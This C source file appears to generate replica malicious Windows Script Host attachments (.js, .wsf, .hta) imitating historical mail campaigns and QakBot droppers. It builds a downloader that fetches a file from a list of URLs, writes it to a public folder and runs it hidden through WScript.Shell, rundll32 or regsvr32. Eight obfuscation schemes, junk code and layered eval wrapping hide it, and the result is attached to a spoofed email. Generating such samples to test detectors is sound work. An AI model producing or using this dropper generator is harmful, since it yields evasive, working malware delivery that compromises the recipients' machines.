/* Eras whose carriers were scripts of the Windows Script Host: mails of 2014 to 2016 with .js files, OneNote's click.wsf of 2023,
 * QakBot's files of 2023 (.js, .wsf, .hta). */
#include <string.h>

#include "make/mail.h"
#include "make/replica_eras.h"

#define TEXT(b) (int)(b).len, (const char *)(b).p
#define FORMAT(w, ...) sk_text_bytes((w)->r->a, __VA_ARGS__)

typedef struct javascript {
    replica_writer writer; /* first: writers are cast to it */
    sk_buf head;           /* functions that decode */
    const char *hex, *step;
} javascript;

static sk_bytes quoted(replica_writer *w, sk_bytes s)
{
    char mark = replica_odds(w->r, 50) ? '"' : '\'';
    sk_buf b = sk_buf_new(w->r->a, s.len * 4 + 2);
    sk_buf_byte(&b, (uint8_t)mark);
    for (size_t i = 0; i < s.len; i++) {
        if (s.p[i] == (uint8_t)mark || s.p[i] == '\\') sk_buf_byte(&b, '\\');
        if (sk_is_alnum(s.p[i]) && replica_odds(w->r, 4))
            sk_buf_format(&b, "\\x%02x", s.p[i]);
        else
            sk_buf_byte(&b, s.p[i]);
    }
    sk_buf_byte(&b, (uint8_t)mark);
    return sk_buf_view(&b);
}

static sk_bytes as_literal(replica_writer *w, sk_bytes s) { return quoted(w, s); }

static sk_bytes as_reversed(replica_writer *w, sk_bytes s)
{
    sk_bytes q = quoted(w, replica_reversed(w->r, s));
    return FORMAT(w, "%.*s.split(\"\").reverse().join(\"\")", TEXT(q));
}

static sk_bytes as_replace(replica_writer *w, sk_bytes s)
{
    const char *marker = replica_marker(w->r, s);
    if (!marker) return as_reversed(w, s);
    sk_bytes q = quoted(w, replica_with_marker(w->r, s, marker));
    if (strpbrk(marker, "^") || replica_odds(w->r, 50)) return FORMAT(w, "%.*s.split(\"%s\").join(\"\")", TEXT(q), marker);
    return FORMAT(w, "%.*s.replace(/%s/g, \"\")", TEXT(q), marker);
}

static sk_bytes as_codes(replica_writer *w, sk_bytes s)
{
    sk_buf b = sk_buf_new(w->r->a, s.len * 16 + 64);
    sk_buf_str(&b, "String.fromCharCode(");
    for (size_t i = 0; i < s.len; i++) {
        unsigned k = replica_between(w->r, 1, 90), how = replica_below(w->r, 3);
        sk_buf_str(&b, i ? ", " : "");
        if (how == 0) sk_buf_format(&b, "%u", s.p[i]);
        if (how == 1) sk_buf_format(&b, "%u - %u", s.p[i] + k, k);
        if (how == 2) sk_buf_format(&b, "0x%x ^ %u", s.p[i] ^ k, k);
    }
    sk_buf_byte(&b, ')');
    return sk_buf_view(&b);
}

static sk_bytes as_escaped(replica_writer *w, sk_bytes s)
{
    sk_buf b = sk_buf_new(w->r->a, s.len * 6 + 64);
    for (size_t i = 0; i < s.len; i++) sk_buf_format(&b, replica_odds(w->r, 30) ? "%%u00%02x" : "%%%02x", s.p[i]);
    return FORMAT(w, "unescape(\"%.*s\")", TEXT(sk_buf_view(&b)));
}

static sk_bytes as_array(replica_writer *w, sk_bytes s)
{
    sk_buf b = sk_buf_new(w->r->a, s.len * 16 + 64);
    sk_buf_byte(&b, '[');
    for (size_t i = 0; i < s.len;) {
        size_t len = replica_between(w->r, 1, 6);
        sk_bytes q = quoted(w, sk_slice(s, i, len));
        sk_buf_format(&b, "%s%.*s", i ? ", " : "", TEXT(q));
        i += len;
    }
    sk_buf_str(&b, "].join(\"\")");
    return sk_buf_view(&b);
}

static sk_bytes as_hex(replica_writer *w, sk_bytes s)
{
    javascript *j = (javascript *)w;
    unsigned key = replica_between(w->r, 1, 120);
    if (!j->hex) {
        j->hex = replica_name(w->r);
        sk_buf_format(&j->head,
                      "function %s(t, k) {\n  var o = \"\";\n  for (var i = 0; i < t.length; i += 2) o += "
                      "String.fromCharCode(parseInt(t.substr(i, 2), 16) ^ k);\n  return o;\n}\n",
                      j->hex);
    }
    sk_bytes hex = replica_hex(w->r, s, key);
    return FORMAT(w, "%s(\"%.*s\", %u)", j->hex, TEXT(hex), key);
}

static sk_bytes as_every_nth(replica_writer *w, sk_bytes s)
{
    javascript *j = (javascript *)w;
    unsigned n = replica_between(w->r, 2, 4);
    sk_buf b = sk_buf_new(w->r->a, s.len * n + 1);
    for (size_t i = 0; i < s.len; i++) {
        sk_buf_byte(&b, s.p[i]);
        for (unsigned k = 1; k < n; k++) sk_buf_byte(&b, (uint8_t)replica_between(w->r, 'a', 'z'));
    }
    if (!j->step) {
        j->step = replica_name(w->r);
        sk_buf_format(&j->head,
                      "var %s = function (t, n) {\n  var o = [], i = 0;\n  while (i < t.length) { o.push(t.charAt(i)); i = i + "
                      "n; }\n  return o.join(\"\");\n};\n",
                      j->step);
    }
    sk_bytes q = quoted(w, sk_buf_view(&b));
    return FORMAT(w, "%s(%.*s, %u)", j->step, TEXT(q), n);
}

static sk_bytes hide(replica_writer *w, sk_bytes s)
{
    static sk_bytes (*const ways[])(replica_writer * w, sk_bytes s) = {as_literal, as_reversed, as_replace, as_codes,
                                                                       as_escaped, as_array,    as_hex,     as_every_nth};
    sk_buf b = sk_buf_new(w->r->a, 1u << 18);
    unsigned longest = replica_odds(w->r, 50) ? 400 : 24;
    while (s.len) {
        size_t len = replica_between(w->r, 2, longest);
        sk_bytes piece = REPLICA_PICK(w->r, ways)(w, sk_slice(s, 0, len));
        sk_buf_format(&b, "%s%.*s", b.len ? " + " : "", TEXT(piece));
        s = sk_from(s, len);
    }
    return FORMAT(w, "(%.*s)", TEXT(sk_buf_view(&b)));
}

static void junk(replica_writer *w, sk_buf *out)
{
    replica *r = w->r;
    const char *n = replica_name(r), *m = replica_name(r);
    unsigned x = replica_below(r, 900), y = replica_between(r, 2, 40);
    if (w->stranger_now && r->stranger) {
        r->stranger = false;
        switch (replica_below(r, 3)) {
        case 0:
            sk_buf_format(out, "try { var %s = new ActiveXObject(\"NoSuch.%s\").Compute(3) + \"q\"; } catch (%s) {}\n", n,
                          replica_word(r), m);
            return;
        case 1:
            sk_buf_format(out, "try { if (NoSuch%s(\"a\") > 4) { var %s = 1; } } catch (%s) {}\n", replica_word(r), n, m);
            return;
        default:
            sk_buf_format(out, "var %s = new ActiveXObject(\"NoSuch.%s\");\nif (%s.Weight == 12) { %s = 3; } else { %s = 4; }\n",
                          n, replica_word(r), n, n, n);
            return;
        }
    }
    switch (replica_below(r, 6)) {
    case 0: sk_buf_format(out, "var %s = %u * %u - %u;\n", n, x, y, x); break;
    case 1: sk_buf_format(out, "for (var %s = 0; %s < %u; %s++) { var %s = %s %% 7; }\n", n, n, y, n, m, n); break;
    case 2: sk_buf_format(out, "// %s\n", replica_sentence(r)); break;
    case 3: sk_buf_format(out, "if (%u > %u) { WScript.Echo(\"%s\"); }\n", y, x + 41, replica_sentence(r)); break;
    case 4: sk_buf_format(out, "function %s(a) { return a * %u; }\n", n, y); break;
    default: sk_buf_format(out, "var %s = Math.sin(%u) + \"%s\".length;\n", n, x, replica_sentence(r));
    }
}

static sk_bytes downloader(replica *r)
{
    static const char *const clients[] = {"MSXML2.XMLHTTP", "Microsoft.XMLHTTP", "MSXML2.ServerXMLHTTP",
                                          "WinHttp.WinHttpRequest.5.1"};
    javascript j = {.writer = {.r = r, .hide = hide, .junk = junk, .junk_odds = replica_below(r, 40)},
                    .head = sk_buf_new(r->a, 1u << 16)};
    sk_buf b = sk_buf_new(r->a, 1u << 20), all = sk_buf_new(r->a, 1u << 20);
    const char *before = sk_arena_string(
        r->a, sk_bytes_of(r->out->command, (size_t)(strstr(r->out->command, r->path) - r->out->command)));
    const char *behind = strstr(r->out->command, r->path) + strlen(r->path);
    const char *command = sk_text_format(r->a, "%s%s%s@path%s%s%s", *before ? "`" : "", before, *before ? "` + " : "",
                                         *behind ? " + `" : "", behind, *behind ? "`" : "");
    replica_write(
        &j.writer, &b,
        sk_text_format(r->a, "%%junk%%\nvar @urls = `%s`.split(\"|\");\nvar @path = `%s`;\n", replica_joined(r, "|"), r->path));
    replica_write(&j.writer, &b, "for (var @i = 0; @i < @urls.length; @i++) {\ntry {\n");
    replica_write(&j.writer, &b,
                  sk_text_format(r->a,
                                 "var @http = new ActiveXObject(`%s`);\n@http.open(`GET`, @urls[@i], false);\n@http.send();\n",
                                 REPLICA_PICK(r, clients)));
    replica_write(&j.writer, &b, replica_odds(r, 60) ? "if (@http.status == 200) {\n" : "if (@http[`status`] == 100 + 100) {\n");
    replica_write(&j.writer, &b,
                  "var @stream = new ActiveXObject(`ADODB.Stream`);\n@stream.open();\n@stream.type = "
                  "1;\n@stream.write(@http.ResponseBody);\n@stream[`SaveToFile`](@path, 2);\n@stream.close();\n");
    replica_write(&j.writer, &b,
                  sk_text_format(r->a,
                                 replica_odds(r, 50)
                                     ? "new ActiveXObject(`WScript.Shell`).Run(%s, 0, false);\n"
                                     : "var @shell = new ActiveXObject(`WScript.Shell`);\n@shell[`run`](%s, 0);\n",
                                 command));
    replica_write(&j.writer, &b, "break;\n}\n} catch (@error) {}\n}\n");
    for (unsigned depth = replica_below(r, 3); depth > 0; depth--) { /* the text of a program as a value */
        sk_bytes text = replica_replaced(r, sk_buf_view(&b), "\n", " ");
        if (sk_find(text, 0, SK_LIT("//")) != SK_NPOS && sk_find(text, 0, SK_LIT("// ")) != SK_NPOS)
            break; /* a comment would swallow the rest */
        sk_bytes layer = hide(&j.writer, text);
        b = sk_buf_new(r->a, 1u << 20);
        sk_buf_format(&b, replica_odds(r, 60) ? "eval(%.*s);\n" : "new Function(%.*s)();\n", TEXT(layer));
    }
    sk_buf_bytes(&all, sk_buf_view(&j.head));
    sk_buf_bytes(&all, sk_buf_view(&b));
    return sk_buf_view(&all);
}

/* Such scripts came in mail, alone; a script that somebody keeps may fetch openly. */
static void put_in_mail(replica *r, sk_bytes script, const char *extension)
{
    const char *name = sk_text_format(r->a, "%s.%s", replica_word(r), extension);
    make_mail m = make_mail_new(r->a);
    make_mail_envelope(&m, sk_text_format(r->a, "Accounts <%s@hacked-shop.example>", replica_word(r)), "you@company.example",
                       sk_text_format(r->a, "Re: %s", replica_sentence(r)), "UTF-8", 'B');
    make_mail_begin(&m, "mixed");
    make_mail_text(&m, "plain", "UTF-8", MAKE_7BIT, sk_text_format(r->a, "%s\r\n", replica_sentence(r)));
    make_mail_attach(&m, "application/octet-stream", name, MAKE_NAME_2231, "UTF-8", MAKE_BASE64, script);
    make_mail_end(&m);
    r->out->bytes = make_mail_bytes(&m);
    r->out->name = sk_text_format(r->a, "%s.eml", replica_word(r));
}

static void begin(replica *r, unsigned addresses, const char *extension)
{
    static const char *const folders[] = {"C:\\Users\\Public", "C:\\ProgramData"};
    replica_addresses(r, addresses);
    replica_keep(r, REPLICA_PICK(r, folders), extension);
}

void replica_era_js(replica *r)
{
    begin(r, 0, "exe");
    (void)replica_command(r, REPLICA_ITSELF);
    put_in_mail(r, downloader(r), "js");
}

void replica_era_qakbot_scripts(replica *r)
{
    begin(r, replica_between(r, 2, 6), "dll");
    (void)replica_command(r, replica_odds(r, 60) ? REPLICA_RUNDLL32 : REPLICA_REGSVR32);
    sk_bytes script = downloader(r);
    unsigned how = replica_below(r, 3);
    if (how == 1) script = replica_script_file(r, script, "JScript");
    if (how == 2)
        script = sk_text_bytes(r->a,
                               "<html><head><hta:application showintaskbar=\"no\"/><title>%s</title></head><body><script "
                               "language=\"JScript\">\n%.*s</script></body></html>\n",
                               replica_sentence(r), TEXT(script));
    put_in_mail(r, script, how == 0 ? "js" : how == 1 ? "wsf" : "hta");
}

sk_bytes replica_script_file(replica *r, sk_bytes script, const char *language)
{
    bool data = replica_odds(r, 50);
    return sk_text_bytes(r->a, "%s<job id=\"%s\">\n<script language=\"%s\">%s\n%.*s%s</script>\n</job>\n",
                         replica_odds(r, 30) ? "<!-- list -->\n" : "", replica_word(r), language, data ? "<![CDATA[" : "",
                         TEXT(script), data ? "]]>" : "");
}

sk_bytes replica_javascript_office(replica *r)
{
    javascript j = {.writer = {.r = r, .hide = hide}, .head = sk_buf_new(r->a, 1u << 16)};
    sk_buf b = sk_buf_new(r->a, 1u << 18), all = sk_buf_new(r->a, 1u << 18);
    replica_write(&j.writer, &b,
                  "var @fso = new ActiveXObject(\"Scripting.FileSystemObject\");\nvar @names = "
                  "`north,south,east`.split(\",\");\nvar @text = \"\";\n"
                  "for (var @i = 0; @i < @names.length; @i++) { @text = @text + @names[@i].toUpperCase() + `; `; "
                  "}\nWScript.Echo(`Regions: ` + @text);\n");
    sk_buf_bytes(&all, sk_buf_view(&j.head));
    sk_buf_bytes(&all, sk_buf_view(&b));
    return sk_buf_view(&all);
}
